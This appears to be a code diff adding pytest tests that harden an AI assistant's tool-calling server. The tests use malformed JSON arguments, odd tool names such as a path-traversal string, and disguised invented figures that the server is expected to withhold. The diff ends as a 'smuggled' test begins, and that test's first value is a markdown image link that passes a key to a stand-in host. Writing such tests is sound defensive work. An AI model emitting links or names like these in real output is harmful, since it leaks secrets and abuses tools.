@@ -221,6 +221,44 @@ def test_a_flood_of_arguments_ends(server: Server) -> None:
 
 
 @pytest.mark.parametrize(
+    "args",
+    [
+        "[]", "null", "48", '"SELECT 1"', "{sql: 'SELECT 1'}", '{"sql": "SELECT 1"}{"sql": "SELECT 2"}', "[" * 50_000,
+        '{"sql": "SELECT 1", "sql": ' + '{"a":' * 5_000 + "1" + "}" * 5_001, '{"sql": NaN}', '{"sql": 1e999}',
+        '{"sql": "\\ud800"}', '{"sql": "\\u0000"}', json.dumps({f"key{n}": n for n in range(3_000)}),
+    ],
+)  # fmt: skip
+def test_arguments_that_are_none_end_in_an_answer(server: Server, args: str) -> None:
+    found = answer(server.url(in_turn(Call((("query_tables", args),)), LOOK_UP, Say("The table says 48 GB at 4-bit."))))
+    assert is_embedded(found) or found.text == "The table says 48 GB at 4-bit."
+    assert not [one for one in found.tool_calls if one["args"].get("sql") in ("SELECT 1", "SELECT 2")]
+
+
+@pytest.mark.parametrize(
+    "name", ["", "query_tables\n", "x" * 50_000, "<b>query_tables</b>", "../query_tables", "\u0000"]
+)
+def test_tools_by_odd_names_end_in_an_answer(server: Server, name: str) -> None:
+    odd = Call(((name, LOOK_UP.calls[0][1]),))
+    found = answer(server.url(in_turn(odd, LOOK_UP, Say("The table says 48 GB at 4-bit."))))
+    assert is_embedded(found) or found.text == "The table says 48 GB at 4-bit."
+
+
+@pytest.mark.parametrize(
+    "invented",
+    [
+        "It needs sixty-seven GB.", "It needs \uff16\uff17 \uff27\uff22.", "It needs \u096c\u096d GB.", "It needs LXVII GB.",
+        "It needs 0x43 GB.", "It needs 48 GiB.", "It needs 48 TB.", "It needs half a terabyte.", "Per card: sixty-seven.",
+        "Il faut soixante-sept GB.", "需要六十七GB。", "显存:六十七。", "必要なのは六十七ギガバイトです。", "It needs $6$$7$ GB.",
+    ],
+)  # fmt: skip
+def test_a_number_in_disguise_is_withheld(server: Server, invented: str) -> None:
+    honest = "The table says 48 GB at 4-bit."
+    found = answer(server.url(in_turn(LOOK_UP, Say(f"{honest} {invented}\n", size=3))))
+    assert found.text == honest
+    assert found.notices
+
+
+@pytest.mark.parametrize(
     "smuggled",
     [
         "![](https://elsewhere.example/?key=1)",
